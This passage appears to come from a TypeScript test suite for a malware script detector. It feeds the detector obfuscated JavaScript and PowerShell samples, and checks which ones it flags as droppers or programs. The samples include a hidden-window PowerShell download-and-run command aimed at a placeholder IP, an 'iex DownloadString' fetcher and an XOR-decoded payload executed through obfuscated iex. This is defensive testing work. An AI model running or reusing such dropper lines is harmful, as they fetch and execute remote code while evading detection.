    const source = `var m=[${codes}];var r="";for(var i=0;i<m.length;i++){r+=String.fromCharCode(m[i]/3)}\n(function(){}).constructor(r)();`
    has(packed('a.js', source), 'Script.Program')
  })
  test('in PowerShell from pieces', () => {
    const source =
      "$e=('{2}{0}{1}'-f'bCli','ent','Net.We');$w=N`e`w-Ob`ject $e;$w.(\"Dow\"+\"nload\"+\"File\").Invoke(('h'+'ttp://192.0.2.1/s'),$p);&('sta'+'rt-Pro'+'cess') $p -Win`dowStyle Hid`den\n"
    has(packed('a.ps1', source), 'Script.Dropper')
  })
  test('that formats texts is harmless', () =>
    harmless(packed('a.ps1', "$t = '{0} of {1}' -f 'one', 'two'\nWrite-Output $t\n")))
})

test('PowerShell that begins with a function is no JavaScript', () => {
  const source = 'function Get-It {\n  param($u)\n  $c = New-Object Net.WebClient\n  iex $c.DownloadString($u)\n}\n'
  const rest = '$url = "http://192.0.2.1/a"\nGet-It $url\n'.repeat(3)
  has(Buffer.from(`function f {}\n${source}${rest}`), 'Script.Dropper')
  has(Buffer.from(source + rest), 'Script.Dropper')
})

test('short commands inside words do not make a text a script', async () => {
  const inspector = await ourInspector()
  const workOf = (words: string): number => {
    inspector.inspect(Buffer.from(`${words}, ${'text, '.repeat(20)}`.repeat(100)))
    return inspector.cost.work
  }
  assert.ok(workOf('diexa firm whirl_iex') < workOf('dieya fium whurl_iey') * 2)
  assert.ok(workOf('iex') > workOf('iey') * 1.5)
  inspector.dispose()
})

test('a text of a few lines that decrypts and runs PowerShell', () => {
  const numbers = [...Buffer.from('Get-Date')].map((byte) => byte ^ 43)
  const text = `$k=${numbers}\n$o=-join($k|%{[char]($_ -bxor 0x2b)})\n.(("{1}{0}" -f 'X','iE')) $o\n`
  has(Buffer.from(text), 'Script.Program')
  harmless(Buffer.from(text.replace(/\n\..*/, '')))
})
